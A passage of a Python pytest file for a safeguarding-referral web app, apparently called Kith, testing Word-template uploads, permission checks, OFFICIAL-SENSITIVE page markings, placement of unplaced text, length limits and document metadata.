    ReferralTemplate.objects.create(authority=cast["carys"].authority, content=content, uploaded_by=cast["carys"])
    fresh(client, cast["amina"])
    page = client.get(reverse("concerns:referral-docx", args=[consultation.reference]) + "?form=own", follow=True)
    text = page.content.decode()
    assert "fetches something from elsewhere" in text and "Kith’s own Word document" in text
    assert reverse("concerns:referral-docx", args=[consultation.reference]) + '"' in text
    assert not Entry.objects.filter(verb="document.made").exists()


@pytest.mark.django_db
@pytest.mark.parametrize("who", ["amina", "bola", "olu", "dan", "ines"])
def test_only_a_manager_or_administrator_changes_the_form(client, cast, who):
    fresh(client, cast[who])
    upload = SimpleUploadedFile("form.docx", FORM, WORD)
    assert client.get(reverse("concerns:referral-template")).status_code == 404
    assert client.post(reverse("concerns:referral-template"), {"file": upload}).status_code == 404
    assert not ReferralTemplate.objects.exists()


# Whole and marked, whatever the form names


def taken_out(client, cast, content: bytes, **texts) -> Document:
    """The referral in this form, as it leaves."""
    consultation, referral = begun(client, cast)
    complete(client, consultation, referral, **texts)
    fresh(client, cast["carys"])
    upload = SimpleUploadedFile("form.docx", content, WORD)
    client.post(reverse("concerns:referral-template"), {"file": upload})
    fresh(client, cast["amina"])
    made = client.get(reverse("concerns:referral-docx", args=[consultation.reference]) + "?form=own")
    read_form(made.content)  # still a form that stands every look
    return Document(io.BytesIO(made.content))


def heads_of(section) -> list[str]:
    """What stands at the head of a section's first page, of the others, and of the even ones."""
    heads = (section.first_page_header, section.header, section.even_page_header)
    return ["\n".join(paragraph.text for paragraph in head.paragraphs).strip() for head in heads]


@pytest.mark.django_db
def test_a_form_that_names_no_marking_goes_out_marked_on_each_page(client, cast):
    document = Document()
    document.add_paragraph("Harm: {{ harm }}")
    document.sections[0].different_first_page_header_footer = True
    document.sections[0].header.paragraphs[0].text = "Our letterhead"
    other = document.add_section()
    other.header.is_linked_to_previous = False
    other.header.paragraphs[0].text = "Second part"
    made = taken_out(client, cast, saved(document), harm="He hit him.")
    marked = "OFFICIAL-SENSITIVE"
    assert heads_of(made.sections[0]) == [marked, f"{marked}\nOur letterhead", marked]
    assert heads_of(made.sections[1])[1] == f"{marked}\nSecond part"


@pytest.mark.django_db
@pytest.mark.parametrize("said", ["{{ marking }}", "Official-Sensitive, when complete"])
def test_a_form_that_says_its_marking_is_not_marked_twice(client, cast, said):
    document = Document(io.BytesIO(form_file("{{ harm }}")))
    document.sections[0].footer.paragraphs[0].text = said
    made = taken_out(client, cast, saved(document))
    assert heads_of(made.sections[0])[1] == ""
    assert "official-sensitive" in made.sections[0].footer.paragraphs[0].text.lower()


@pytest.mark.django_db
def test_what_the_form_has_no_place_for_stands_at_its_end(client, cast):
    made = taken_out(client, cast, form_file("Harm: {{ harm }}"), harm="He hit him.", people="An adult.\nA cousin.")
    lines = [paragraph.text for paragraph in made.paragraphs]
    assert lines[0] == "Harm: He hit him." and "Harm" not in lines
    assert lines[lines.index("People") + 1] == "An adult.\nA cousin."
    assert lines.index("Also part of this referral") < lines.index("About the person") < lines.index("People")
    fresh(client, cast["carys"])
    page = client.get(reverse("concerns:referral-template")).content.decode()
    assert "no place for: About the person, What the concern is," in page and "does not name the marking" in page


@pytest.mark.django_db
def test_the_workers_own_text_about_attachments_is_not_kiths_marking(client, cast):
    content = form_file("{{ heading_marking }}", header="{{ marking }}")
    made = taken_out(client, cast, content, marking="One photo of a note is kept at school.")
    assert made.paragraphs[0].text == "One photo of a note is kept at school."
    assert made.sections[0].header.paragraphs[0].text == "OFFICIAL-SENSITIVE"


def test_texts_too_long_for_the_end_of_the_form_are_refused():
    form = read_form(form_file("{{ harm }}"))
    with pytest.raises(NotUsable, match="too long for this form"):
        form.complete([("Needs", "a\n" * 20_001)], "OFFICIAL-SENSITIVE")


@pytest.mark.django_db
def test_kiths_own_document_says_nothing_of_who_wrote_the_library(client, cast):
    consultation, referral = begun(client, cast)
    complete(client, consultation, referral)
    fresh(client, cast["amina"])
    made = client.get(reverse("concerns:referral-docx", args=[consultation.reference]))
    about = Document(io.BytesIO(made.content)).core_properties
    assert (about.author, about.last_modified_by, about.comments) == ("Kith", "Kith", "")
    assert about.created.year == about.modified.year == timezone.localdate().year
